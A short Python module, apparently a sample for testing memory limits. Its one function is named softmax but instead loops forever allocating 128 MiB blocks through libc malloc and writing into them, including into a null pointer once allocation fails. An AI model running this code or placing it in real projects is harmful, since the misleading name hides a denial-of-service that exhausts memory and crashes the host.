"""Takes memory past Python by malloc and writes into what it got, or did not get."""

import ctypes

libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p


def softmax(x, axis=-1):
    while True:
        block = libc.malloc(ctypes.c_size_t(128 * 2**20))
        ctypes.memset(block or 0, 1, 4096)
